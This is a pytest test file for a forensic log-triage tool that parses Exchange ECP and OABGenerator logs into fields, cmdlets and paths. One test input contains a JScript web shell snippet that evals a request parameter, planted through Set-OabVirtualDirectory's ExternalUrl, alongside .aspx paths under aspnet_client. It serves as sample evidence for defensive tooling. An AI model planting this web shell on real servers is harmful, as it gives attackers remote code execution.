"""ECP and OABGenerator rows: what is packed inside a column comes out under its own name."""

from datetime import UTC, datetime

import pytest

from extriage import parsers
from extriage.model.evidence import Fields, Origin, Record
from extriage.parsers import Clock
from extriage.parsers.ecp import COLUMNS, SERVER, pairs
from extriage.parsers.oabgenerator import FORMAT as OAB
from extriage.parsers.packed import unpack

HERE = Origin("ECPServer20210303-1.LOG", 6)
TIME = b"2021-03-03T05:02:11.130Z"


def read(line: bytes) -> Record:
    return parsers.record(SERVER, COLUMNS, line, HERE, Clock())


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ("", []),
        ("S:A=1", [("S:A", "1")]),
        (
            "S:A=1;I32:B=2;Dbl:C=.5;F:D=",
            [("S:A", "1"), ("I32:B", "2"), ("Dbl:C", ".5"), ("F:D", "")],
        ),
        ("S:A=1;", [("S:A", "1")]),
        ("S:A=b=c;S:D=e", [("S:A", "b=c"), ("S:D", "e")]),
        ("'S:A=x;y';S:B=1", [("S:A", "x;y"), ("S:B", "1")]),
        ("'S:A=it''s';S:B=1", [("S:A", "it's"), ("S:B", "1")]),
        ("'S:A=''x''';S:B=1", [("S:A", "'x'"), ("S:B", "1")]),
        ("'S:A=''''';S:B=", [("S:A", "''"), ("S:B", "")]),
        ("S:A=x;y;z;S:B=1", [("S:A", "x;y;z"), ("S:B", "1")]),
        ("S:A='x;y';S:B=1", [("S:A", "'x;y'"), ("S:B", "1")]),
        ("'S:A=never closed;S:B=1", [("S:A", "never closed"), ("S:B", "1")]),
        ("S:A", [("S:A", "")]),
        ("=x", []),
    ],
)
def test_pairs_are_unpacked(data: str, expected: list[tuple[str, str]]) -> None:
    assert pairs(data) == expected


def test_a_command_with_markup_comes_out_as_it_was_typed() -> None:
    command = (
        'Set-OabVirtualDirectory.ExternalUrl=\'http://f/<script language="JScript" '
        'runat="server">function Page_Load(){/**/eval(Request["x"],"unsafe");}</script>\''
        ".Identity='4f4b'"
    )
    wrapped = "'S:CMD=" + command.replace("'", "''") + "'"
    data = (
        f"S:TIME=13;{wrapped};S:URL=/ecp/DDI/DDIService.svc/SetObject?a=1;S:EX=;S:BLD=15.1.2106.2"
    )
    line = TIME + b',EX01,ECP.Request,"' + data.replace('"', '""').encode() + b'"'
    record = read(line)
    assert record.fields["S:CMD"] == command
    assert record.fields["S:EX"] == ""
    assert record.fields["EventData"] == data
    assert record.time == datetime(2021, 3, 3, 5, 2, 11, 130000, tzinfo=UTC)
    assert record.computer == "EX01"
    values = parsers.split(SERVER, COLUMNS, line)
    assert values is not None
    assert parsers.build(SERVER, COLUMNS, values) == "15.1.2106.2"


def test_a_key_that_comes_twice_keeps_both_values() -> None:
    assert read(TIME + b",EX01,ECP.Request,S:A=1;S:A=2").fields["S:A"] == ("1", "2")


def test_a_key_named_like_a_column_does_not_replace_it() -> None:
    assert read(TIME + b",EX01,ECP.Request,ServerName=EVIL").fields["ServerName"] == "EX01"


def test_a_row_without_a_build_names_none() -> None:
    row = ["t", "EX01", "ECP.Request", "S:X=S:BLDX=15.1.2.3"]
    assert parsers.build(SERVER, COLUMNS, row) == ""


@pytest.mark.parametrize(
    ("line", "path"),
    [
        (
            "Download failed and temporary file 'C:\\inetpub\\wwwroot\\aspnet_client\\it''s.aspx' "
            "needs to be removed",
            "C:\\inetpub\\wwwroot\\aspnet_client\\it''s.aspx",
        ),
        (
            'Download failed and temporary file ""C:\\x.aspx"" needs to be removed.',
            "C:\\x.aspx",
        ),
        ("moved '\\\\EX01\\c$\\x' away", "\\\\EX01\\c$\\x"),
        ("nothing to see", None),
        ("'C:relative'", None),
    ],
)
def test_the_path_in_an_oab_generator_line_is_a_field(line: str, path: str | None) -> None:
    data = TIME.decode() + ",1,2," + line
    columns = parsers.fallback_columns(OAB, data.encode())
    assert columns is not None
    record = parsers.record(OAB, columns, data.encode(), HERE, Clock())
    assert record.fields.get("Path") == path
    assert record.fields["Message"] == data
    assert record.time == datetime(2021, 3, 3, 5, 2, 11, 130000, tzinfo=UTC)
    assert not record.raw
    assert not parsers.raw_record(OAB, data.encode(), HERE, Clock()).raw


def test_an_oab_generator_log_with_a_header_gives_its_columns_too() -> None:
    columns = parsers.header(OAB, b"#Fields: DateTime,ServerName,Text")
    assert columns is not None
    record = parsers.record(OAB, columns, TIME + b",EX01,hello", HERE, Clock())
    assert record.fields["Text"] == "hello"
    assert record.computer == "EX01"


@pytest.mark.parametrize(
    ("command", "cmdlet", "told"),
    [
        ("Get-InboxRule", "Get-InboxRule", {}),
        (
            "Set-OabVirtualDirectory.ExternalUrl='http://f/<s a=''b''>.x=1'.Identity='OAB (D)'",
            "Set-OabVirtualDirectory",
            {"ExternalUrl": "http://f/<s a=''b''>.x=1", "Identity": "OAB (D)"},
        ),
        ("New-Xx.Force=True.A='cut", "New-Xx", {"Force": "True", "A": "cut"}),
        ("Get-Aa|Get-Bb", "Get-Aa", {}),
        ("Set-Xx.A='1' | Set-Yy.B='2'", "Set-Xx", {"A": "1"}),
        ("nothing", None, {}),
        ("", None, {}),
    ],
)
def test_a_command_is_named_as_in_other_logs(
    command: str, cmdlet: str | None, told: dict[str, str]
) -> None:
    fields: Fields = {"EventData": "'S:CMD=" + command.replace("'", "''") + "';S:EX="}
    assert SERVER.decode is not None
    SERVER.decode(fields, "")
    assert fields.get("Cmdlet") == cmdlet
    assert fields.get("CmdletResult") == ("success" if cmdlet else None)
    found = {name.partition(".")[2]: fields[name] for name in fields if name[:11] == "Parameters."}
    assert found == told
    if cmdlet:
        assert fields["Parameters"] == " ".join(f'-{k} "{v}"' for k, v in told.items())


def test_a_command_with_an_exception_failed() -> None:
    fields: Fields = {"EventData": "S:CMD=Set-Xx;S:EX=System.Exception: no"}
    assert SERVER.decode is not None
    SERVER.decode(fields, "")
    assert fields["CmdletResult"] == "failure"


def test_packed_columns_are_unpacked() -> None:
    packed = "FEAuth=BEVersion-1;SessionId=x;SessionId=y;S:WLM.Bal=3;empty=;;noise; k = v=w"
    fields: Fields = {"GenericInfo": packed, "GenericErrors": "plain text", "Other": "a=b"}
    unpack(fields)
    assert {name: fields[name] for name in fields if "." in name} == {
        "GenericInfo.FEAuth": "BEVersion-1",
        "GenericInfo.SessionId": ("x", "y"),
        "GenericInfo.S:WLM.Bal": "3",
        "GenericInfo.empty": "",
        "GenericInfo.k": " v=w",
    }
